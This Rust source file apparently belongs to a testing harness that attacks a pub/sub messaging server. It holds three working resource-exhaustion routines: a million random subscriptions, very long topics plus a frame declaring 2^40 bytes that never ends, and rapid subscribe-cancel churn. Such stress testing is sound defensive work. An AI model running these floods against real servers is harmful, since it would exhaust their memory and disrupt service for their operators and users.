//! Subscriptions without end.

use super::Noise;
use super::frames::EARNEST;
use crate::attack::AttackError;
use crate::attack::bytes::{COMMAND, cancel, hello, long_header, subscribe};
use crate::attack::field::Field;

/// Subscriptions of one peer.
const MILLION: usize = 1_000_000;
/// Said at once.
const BATCH: usize = 1000;
/// Bytes of a long topic.
const LONG_TOPIC: usize = 60_000;

/// A million topics.
pub(crate) fn million(field: &Field) -> Result<(), AttackError> {
    let mut wire = field.say(&hello("SUB"))?;
    let mut noise = Noise::new(3);
    for _ in field.times(MILLION / BATCH, MILLION / BATCH) {
        field.until("the server reads", || wire.has_room())?;
        if wire.is_over() {
            break;
        }
        let piece: Vec<u8> = (0..BATCH).flat_map(|_| subscribe(&noise.bytes(8))).collect();
        wire.say(&piece);
    }
    field.until("the server reads", || wire.has_room())?;
    field.hold(&mut [wire]);
    Ok(())
}

/// Topics that are long, and one that never ends.
pub(crate) fn long(field: &Field) -> Result<(), AttackError> {
    let mut noise = Noise::new(4);
    let mut wire = field.say(&hello("SUB"))?;
    for _ in field.times(EARNEST / LONG_TOPIC, EARNEST / LONG_TOPIC) {
        field.until("the server reads", || wire.has_room())?;
        if wire.is_over() {
            break;
        }
        wire.say(&subscribe(&noise.bytes(LONG_TOPIC)));
    }
    let mut endless = field.say(&hello("SUB"))?;
    endless.say(&[long_header(COMMAND, 1 << 40), b"\x09SUBSCRIBE".to_vec()].concat());
    for _ in field.times(EARNEST / LONG_TOPIC, EARNEST / LONG_TOPIC) {
        field.until("the server reads", || endless.has_room())?;
        if endless.is_over() {
            break;
        }
        endless.say(&noise.bytes(LONG_TOPIC));
    }
    field.hold(&mut [wire, endless]);
    Ok(())
}

/// Subscribes and takes it back, as fast as the server reads.
pub(crate) fn fickle(field: &Field) -> Result<(), AttackError> {
    let mut noise = Noise::new(5);
    let piece: Vec<u8> = (0..BATCH)
        .flat_map(|_| {
            let topic = noise.bytes(12);
            [subscribe(&topic), cancel(&topic), cancel(&topic)].concat()
        })
        .collect();
    let mut wire = field.say(&hello("SUB"))?;
    for _ in field.times(50, 5000) {
        field.until("the server reads", || wire.has_room())?;
        wire.say(&piece);
    }
    field.hold(&mut [wire]);
    Ok(())
}
